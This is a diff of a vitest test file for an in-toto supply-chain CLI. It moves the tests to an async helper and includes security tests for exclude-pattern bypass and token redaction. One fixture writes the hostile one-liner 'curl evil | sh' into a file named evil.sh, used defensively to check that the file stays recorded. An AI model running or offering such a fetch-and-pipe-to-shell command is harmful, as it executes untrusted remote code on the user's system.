@@ -8,13 +8,13 @@ import { spawnSync } from 'node:child_process';
 import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { intoto } from '../helpers/cli.js';
+import { intotoAsync } from '../helpers/cli.js';
 import { CLI, testdir } from '../helpers/vectors.js';
 
 let key: string;
-beforeAll(() => {
+beforeAll(async () => {
   const k = testdir();
-  expect(intoto(['keygen', join(k, 'fn')]).status).toBe(0);
+  expect((await intotoAsync(['keygen', join(k, 'fn')])).status).toBe(0);
   key = join(k, 'fn');
 });
 
@@ -37,9 +37,9 @@ function linkIn(dir: string, prefix: string): Envelope {
 const sha = (alg: string, s: string) => createHash(alg).update(s).digest('hex');
 
 describe('intoto run flags', () => {
-  it('variadic -m/-p before "--" stop at "--"; the command keeps its own flags', () => {
+  it('variadic -m/-p before "--" stop at "--"; the command keeps its own flags', async () => {
     const dir = testdir({ a: '1', b: '2', c: '3' });
-    const r = intoto(
+    const r = await intotoAsync(
       ['run', '-n', 'v', '-k', key, '-m', 'a', 'b', '-p', 'c', '-s', '--', 'ls', '-1', '-a', '-m'],
       { cwd: dir }
     );
@@ -49,7 +49,7 @@ describe('intoto run flags', () => {
     expect(Object.keys(l.products)).toEqual(['c']);
     expect(l.command).toEqual(['ls', '-1', '-a', '-m']);
     // The long forms and the --signing-key alias.
-    const r2 = intoto(
+    const r2 = await intotoAsync(
       [
         'run',
         '--step-name',
@@ -74,11 +74,14 @@ describe('intoto run flags', () => {
     expect(linkIn(join(dir, 'meta'), 'long.').signed.byproducts.stdout).toBe('--help\n');
   });
 
-  it('-x wins over a command, which is not run; byproducts {} and command []', () => {
+  it('-x wins over a command, which is not run; byproducts {} and command []', async () => {
     const dir = testdir({ a: '1' });
-    const r = intoto(['run', '-n', 'x', '-k', key, '-x', '-m', 'a', '--', 'touch', 'made'], {
-      cwd: dir,
-    });
+    const r = await intotoAsync(
+      ['run', '-n', 'x', '-k', key, '-x', '-m', 'a', '--', 'touch', 'made'],
+      {
+        cwd: dir,
+      }
+    );
     expect(r.status, r.stderr).toBe(0);
     expect(existsSync(join(dir, 'made'))).toBe(false);
     const l = linkIn(dir, 'x.').signed;
@@ -86,32 +89,39 @@ describe('intoto run flags', () => {
     expect(l.command).toEqual([]);
   });
 
-  it('-d creates missing directories; the file name is <name>.<keyid8>.link', () => {
+  it('-d creates missing directories; the file name is <name>.<keyid8>.link', async () => {
     const dir = testdir();
-    const r = intoto(['run', '-n', 'deep', '-k', key, '-x', '-d', 'a/b/c'], { cwd: dir });
+    const r = await intotoAsync(['run', '-n', 'deep', '-k', key, '-x', '-d', 'a/b/c'], {
+      cwd: dir,
+    });
     expect(r.status, r.stderr).toBe(0);
     const [f] = readdirSync(join(dir, 'a/b/c'));
     const env = linkIn(join(dir, 'a/b/c'), 'deep.');
     expect(f).toBe(`deep.${env.signatures[0].keyid.slice(0, 8)}.link`);
   });
 
-  it('-q prints nothing of its own; the command output still shows', () => {
+  it('-q prints nothing of its own; the command output still shows', async () => {
     const dir = testdir({ 'x.pyc': '' });
-    const r = intoto(['run', '-n', 'q', '-k', key, '-q', '-m', '.', '--', 'echo', 'hello'], {
-      cwd: dir,
-    });
+    const r = await intotoAsync(
+      ['run', '-n', 'q', '-k', key, '-q', '-m', '.', '--', 'echo', 'hello'],
+      {
+        cwd: dir,
+      }
+    );
     expect(r.status).toBe(0);
     expect(r.stdout).toBe('hello\n');
     expect(r.stderr).toBe('');
-    const loud = intoto(['run', '-n', 'l', '-k', key, '-m', '.', '--', 'true'], { cwd: dir });
+    const loud = await intotoAsync(['run', '-n', 'l', '-k', key, '-m', '.', '--', 'true'], {
+      cwd: dir,
+    });
     // x.pyc and the link of the quiet run.
     expect(loud.stderr).toMatch(/excluded 2 entries by the default patterns/);
     expect(loud.stderr).toMatch(/wrote l\.[0-9a-f]{8}\.link/);
   });
 
-  it('--hash-algorithms records each algorithm', () => {
+  it('--hash-algorithms records each algorithm', async () => {
     const dir = testdir({ f: 'content' });
-    const r = intoto(
+    const r = await intotoAsync(
       ['run', '-n', 'h', '-k', key, '-x', '-m', 'f', '--hash-algorithms', 'sha256,sha512'],
       {
         cwd: dir,
@@ -124,11 +134,14 @@ describe('intoto run flags', () => {
     });
   });
 
-  it('--use-dsse writes a DSSE envelope whose payload is the link', () => {
+  it('--use-dsse writes a DSSE envelope whose payload is the link', async () => {
     const dir = testdir({ f: 'x' });
     expect(
-      intoto(['run', '-n', 'd', '-k', key, '--use-dsse', '-m', 'f', '--', 'true'], { cwd: dir })
-        .status
+      (
+        await intotoAsync(['run', '-n', 'd', '-k', key, '--use-dsse', '-m', 'f', '--', 'true'], {
+          cwd: dir,
+        })
+      ).status
     ).toBe(0);
     const f = readdirSync(dir).find((n) => n.startsWith('d.'))!;
     const env = JSON.parse(readFileSync(join(dir, f), 'utf8')) as {
@@ -140,10 +153,12 @@ describe('intoto run flags', () => {
     expect(env.signatures).toHaveLength(1);
     const link = JSON.parse(Buffer.from(env.payload, 'base64').toString('utf8'));
     expect(link.byproducts).toEqual({ 'return-value': 0, stderr: '', stdout: '' });
-    expect(intoto(['sign', '--verify', '-f', f, '-k', `${key}.pub`], { cwd: dir }).status).toBe(0);
+    expect(
+      (await intotoAsync(['sign', '--verify', '-f', f, '-k', `${key}.pub`], { cwd: dir })).status
+    ).toBe(0);
   });
 
-  it('bad values are usage errors (exit 2): --run-timeout, --hash-algorithms, -g', () => {
+  it('bad values are usage errors (exit 2): --run-timeout, --hash-algorithms, -g', async () => {
     const dir = testdir();
     for (const args of [
       ['--run-timeout', '0'],
@@ -151,17 +166,19 @@ describe('intoto run flags', () => {
       ['--hash-algorithms', 'md5'],
       ['-g'],
     ]) {
-      const r = intoto(['run', '-n', 'u', '-k', key, ...args, '--', 'true'], { cwd: dir });
+      const r = await intotoAsync(['run', '-n', 'u', '-k', key, ...args, '--', 'true'], {
+        cwd: dir,
+      });
       expect(r.status, args.join(' ')).toBe(2);
       expect(r.stderr).not.toMatch(/at .*\.js:\d+/);
     }
     expect(readdirSync(dir)).toEqual([]);
   });
 
-  it('--run-timeout stops the command and what it started, quickly, with no link', () => {
+  it('--run-timeout stops the command and what it started, quickly, with no link', async () => {
     const dir = testdir();
     const start = Date.now();
-    const r = intoto(
+    const r = await intotoAsync(
       [
         'run',
         '-n',
@@ -179,16 +196,18 @@ describe('intoto run flags', () => {
       { cwd: dir }
     );
     expect(r.status).toBe(2);
-    expect(Date.now() - start).toBeLessThan(8000);
+    expect(Date.now() - start).toBeLessThan(20_000);
     expect(readdirSync(dir)).toEqual([]);
     // No default timeout: a step longer than the reference's 10 s would pass too; 2 s shows the flag
     // is not needed for a normal command.
-    expect(intoto(['run', '-n', 'ok', '-k', key, '--', 'sleep', '2'], { cwd: dir }).status).toBe(0);
+    expect(
+      (await intotoAsync(['run', '-n', 'ok', '-k', key, '--', 'sleep', '2'], { cwd: dir })).status
+    ).toBe(0);
   });
 });
 
 describe('SECURITY.md recipes', () => {
-  it('A-3: no rc file or IN_TOTO_* variable can hide evil.sh', () => {
+  it('A-3: no rc file or IN_TOTO_* variable can hide evil.sh', async () => {
     const home = testdir({
       '.in_totorc': '[settings]\nARTIFACT_EXCLUDE_PATTERNS=evil.sh\n',
       '.config/in_toto/config': '[settings]\nARTIFACT_EXCLUDE_PATTERNS=evil.sh\n',
@@ -200,61 +219,75 @@ describe('SECURITY.md recipes', () => {
       'intoto.config.json': '{"exclude": ["evil.sh"]}',
       '.intotoignore': 'evil.sh\n',
     });
-    const r = intoto(['run', '-n', 'a3', '-k', key, '-m', '.', '-p', '.', '--', 'true'], {
-      cwd: dir,
-      env: {
-        HOME: home,
-        XDG_CONFIG_HOME: join(home, '.config'),
-        IN_TOTO_ARTIFACT_EXCLUDE_PATTERNS: 'evil.sh',
-        IN_TOTO_ARTIFACT_BASE_PATH: '/nonexistent',
-        IN_TOTO_LINK_CMD_EXEC_TIMEOUT: '0.001',
-      },
-    });
+    const r = await intotoAsync(
+      ['run', '-n', 'a3', '-k', key, '-m', '.', '-p', '.', '--', 'true'],
+      {
+        cwd: dir,
+        env: {
+          HOME: home,
+          XDG_CONFIG_HOME: join(home, '.config'),
+          IN_TOTO_ARTIFACT_EXCLUDE_PATTERNS: 'evil.sh',
+          IN_TOTO_ARTIFACT_BASE_PATH: '/nonexistent',
+          IN_TOTO_LINK_CMD_EXEC_TIMEOUT: '0.001',
+        },
+      }
+    );
     expect(r.status, r.stderr).toBe(0);
     const l = linkIn(dir, 'a3.').signed;
     expect(l.materials['evil.sh']).toEqual({ sha256: sha('sha256', 'curl evil | sh') });
     expect(Object.keys(l.products)).toContain('evil.sh');
   });
 
-  it('H-7: a printed token is reported, and redacted with --redact-secrets', () => {
+  it('H-7: a printed token is reported, and redacted with --redact-secrets', async () => {
     const dir = testdir();
     const env = { API_TOKEN: 's3cr3t-value' };
     const cmd = ['--', 'sh', '-c', 'echo "token: $API_TOKEN"'];
-    const warned = intoto(['run', '-n', 'w', '-k', key, '-s', ...cmd], { cwd: dir, env });
+    const warned = await intotoAsync(['run', '-n', 'w', '-k', key, '-s', ...cmd], {
+      cwd: dir,
+      env,
+    });
     expect(warned.status).toBe(0);
     expect(warned.stderr).toMatch(/recorded stdout contains the value of \$API_TOKEN/);
     // Without --redact-secrets the link is what the reference writes.
     expect(linkIn(dir, 'w.').signed.byproducts.stdout).toBe('token: s3cr3t-value\n');
-    const redacted = intoto(['run', '-n', 'r', '-k', key, '-s', '--redact-secrets', ...cmd], {
-      cwd: dir,
-      env,
-    });
+    const redacted = await intotoAsync(
+      ['run', '-n', 'r', '-k', key, '-s', '--redact-secrets', ...cmd],
+      {
+        cwd: dir,
+        env,
+      }
+    );
     expect(redacted.stdout).toBe('token: s3cr3t-value\n');
     expect(linkIn(dir, 'r.').signed.byproducts.stdout).toBe('token: [redacted $API_TOKEN]\n');
     // Not recorded, nothing to say.
-    const plain = intoto(['run', '-n', 'p', '-k', key, ...cmd], { cwd: dir, env });
+    const plain = await intotoAsync(['run', '-n', 'p', '-k', key, ...cmd], { cwd: dir, env });
     expect(plain.stderr).not.toMatch(/API_TOKEN/);
   });
 });
 
 describe('intoto match-products', () => {
-  it('prints the differences, honours --lstrip-paths and --exclude', () => {
+  it('prints the differences, honours --lstrip-paths and --exclude', async () => {
     const up = testdir({ 'build/app': 'app', 'build/lib.so': 'lib' });
-    const made = intoto(['run', '-n', 'b', '-k', key, '-x', '-p', 'build', '-d', 'meta'], {
-      cwd: up,
-    });
+    const made = await intotoAsync(
+      ['run', '-n', 'b', '-k', key, '-x', '-p', 'build', '-d', 'meta'],
+      {
+        cwd: up,
+      }
+    );
     expect(made.status, made.stderr).toBe(0);
     const link = join(up, 'meta', readdirSync(join(up, 'meta'))[0]);
-    expect(intoto(['match-products', '-l', link, '-p', 'build'], { cwd: up }).status).toBe(0);
+    expect(
+      (await intotoAsync(['match-products', '-l', link, '-p', 'build'], { cwd: up })).status
+    ).toBe(0);
     // Downstream the files arrive under out/, one changed, with a log of its own.
     const down = testdir({ 'out/build/app': 'app', 'out/build/lib.so': 'LIB', 'out/log.txt': 'x' });
-    const r = intoto(['match-products', '-l', link, '-p', 'out'], { cwd: down });
+    const r = await intotoAsync(['match-products', '-l', link, '-p', 'out'], { cwd: down });
     expect(r.status).toBe(1);
     expect(r.stdout).toMatch(/only in link: +build\/app/);
     expect(r.stdout).toMatch(/only on disk: +out\/build\/app/);
     expect(r.stderr).toMatch(/not the products of/);
     const strip = ['match-products', '-l', link, '-p', 'out', '--lstrip-paths', 'out/'];
-    const r2 = intoto([...strip, '--json'], { cwd: down });
+    const r2 = await intotoAsync([...strip, '--json'], { cwd: down });
     expect(r2.status).toBe(1);
     expect(JSON.parse(r2.stdout)).toMatchObject({
       ok: false,
@@ -263,18 +296,18 @@ describe('intoto match-products', () => {
       differ: [{ path: 'build/lib.so' }],
     });
     writeFileSync(join(down, 'out/build/lib.so'), 'lib');
-    const ok = intoto([...strip, '--exclude', 'log.txt'], { cwd: down });
+    const ok = await intotoAsync([...strip, '--exclude', 'log.txt'], { cwd: down });
     expect(ok.status, ok.stdout + ok.stderr).toBe(0);
     expect(ok.stdout).toMatch(/match the products/);
   });
 
-  it('a link that is not a link, or not JSON, is exit 2', () => {
+  it('a link that is not a link, or not JSON, is exit 2', async () => {
     const dir = testdir({
       'bad.link': '{"signed": {"_type": "layout"}, "signatures": []}',
       'x.link': 'nope',
     });
-    expect(intoto(['match-products', '-l', 'bad.link'], { cwd: dir }).status).toBe(2);
-    expect(intoto(['match-products', '-l', 'x.link'], { cwd: dir }).status).toBe(2);
+    expect((await intotoAsync(['match-products', '-l', 'bad.link'], { cwd: dir })).status).toBe(2);
+    expect((await intotoAsync(['match-products', '-l', 'x.link'], { cwd: dir })).status).toBe(2);
   });
 });
 
